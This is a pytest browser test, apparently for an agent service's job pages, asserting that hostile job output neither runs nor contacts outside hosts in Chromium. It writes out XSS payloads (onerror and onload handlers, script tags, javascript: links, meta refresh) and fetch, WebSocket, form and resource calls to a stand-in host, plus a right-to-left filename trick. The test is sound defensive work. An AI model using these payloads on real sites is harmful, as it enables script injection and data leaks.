"""What a job of a real agent does against who opens its pages in Chromium: nothing runs, nothing leaves, nothing stays."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from people import as_bearer

from running import AgentProcess, run_cell

pytestmark = pytest.mark.browser

OUT = "http://192.0.2.1"
MARKUP = "<img src=x onerror=parent.hit=1><script>top.hit=1</script>"
#: leads its frame away, so that it stands in one of its own
REFRESH = f'<meta http-equiv=refresh content="0;url={OUT}/refresh">{MARKUP}'
ATTACKS = {
    "text/html": f"""{MARKUP}<b>seen</b><svg onload=top.hit=1></svg>
        <iframe src="{OUT}/frame"></iframe><img src="{OUT}/image"><link rel=stylesheet href="{OUT}/style">
        <style>@import url({OUT}/import); body{{background:url({OUT}/background)}}</style>
        <form action="{OUT}/form" method=post><input name=a><button id=send>send</button></form>
        <base href="{OUT}/">
        <object data="{OUT}/object"></object><embed src="{OUT}/embed"><video src="{OUT}/video" autoplay></video>
        <a id=away href="{OUT}/top" target=_top>away</a><a href="{OUT}/ping" ping="{OUT}/ping">ping</a>
        <script src="{OUT}/script"></script><script>fetch("{OUT}/fetch"); new WebSocket("ws://192.0.2.1/")</script>""",
    "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='parent.hit=1' width='9' height='9'>"
    f"<script>parent.hit=1</script><image href='{OUT}/svg'/><use href='{OUT}/use#a'/></svg>",
    "text/markdown": f"![a]({OUT}/markdown) [b](javascript:top.hit=1) {MARKUP}",
    "text/latex": rf"\href{{javascript:top.hit=1}}{{a}} \includegraphics{{{OUT}/latex}} {MARKUP}",
    "application/javascript": "top.hit=1",
    "application/vnd.jupyter.widget-view+json": {"model_id": MARKUP},
    "text/plain": MARKUP,
}
SOURCE = f"""
import json, sys
from IPython.display import publish_display_data
attacks = json.loads({json.dumps(json.dumps(ATTACKS))})
for mime, data in attacks.items():
    publish_display_data({{mime: data}}, {{mime: {{"isolated": True, "onload": "top.hit=1"}}}})
publish_display_data(attacks)
publish_display_data({{"text/html": {REFRESH!r}}})
print({MARKUP!r}, "\\x1b]8;;{OUT}/osc\\x07link\\x1b]8;;\\x07 {OUT}/plain javascript:top.hit=1", "\\u202egnp.exe")
open("<img src=x onerror=top.hit=1>.html", "w").write("<script>top.hit=1</script>")
kept = {MARKUP!r}
class Odd(Exception): pass
Odd.__name__ = Odd.__qualname__ = {MARKUP!r}
raise Odd({MARKUP!r})
"""


@pytest.fixture
def page(chromium: Any) -> Iterator[Any]:
    context = chromium.new_context()
    yield context.new_page()
    context.close()


def test_pages_of_a_real_agent_run_and_send_nothing_of_a_job(
    start_agent: Callable[..., AgentProcess], page: Any
) -> None:
    from playwright.sync_api import expect

    agent = start_agent("--gpus", "0")
    client = agent.client()
    job, _ = run_cell(client, SOURCE, name="<script>top.hit=1</script>", fetch=["kept"])
    asked: list[str] = []
    opened: list[str] = []
    page.context.on("request", lambda request: asked.append(request.url))
    page.context.on("page", lambda other: opened.append(other.url))
    page.on("dialog", lambda dialog: asked.append(dialog.message))
    page.goto(client.view_code(job.job_id).url)
    expect(page.locator("#log")).to_contain_text("onerror", timeout=30_000)
    for part in page.locator("summary:visible").all():
        part.click()
    frames = page.locator("#log iframe")
    frames.first.scroll_into_view_if_needed()
    inside = page.frame_locator("#log iframe").first
    expect(inside.locator("b")).to_have_text("seen")
    inside.get_by_text("away").click(no_wait_after=True)
    assert inside.locator("body").locator("[href], [src], [id], form, script, style, meta").count() == 0
    expect(page.locator("#log")).to_contain_text("onerror")
    own = (agent.url, f"blob:{agent.url}", "data:", "about:")
    assert [url for url in asked if not url.startswith(own)] == []
    assert opened == []
    assert page.url.startswith(f"{agent.url}/history/{job.job_id}")
    assert "code=" not in page.url  # nor in what the browser remembers
    assert page.evaluate("window.hit") is None
    assert all(frame.get_attribute("sandbox") == "" for frame in frames.all())
    assert page.context.cookies() == []
    assert page.evaluate("Object.keys(localStorage).length") == 0

    # the box's page, and what the job left, opened as pages of their own
    page.goto(agent.url + "/")
    page.get_by_label("Token of this agent").fill(agent.token)
    page.get_by_role("button", name="Show the jobs").click()
    expect(page.locator("#list")).to_contain_text("<script>")
    assert page.evaluate("window.hit") is None
    page.set_extra_http_headers(as_bearer(agent.token))
    for path in (f"/v1/jobs/{job.job_id}", f"/v1/jobs/{job.job_id}/files"):
        assert page.goto(agent.url + path).headers["content-type"] == "application/json"
        assert page.evaluate("window.hit") is None
    assert [url for url in asked if not url.startswith(own)] == []
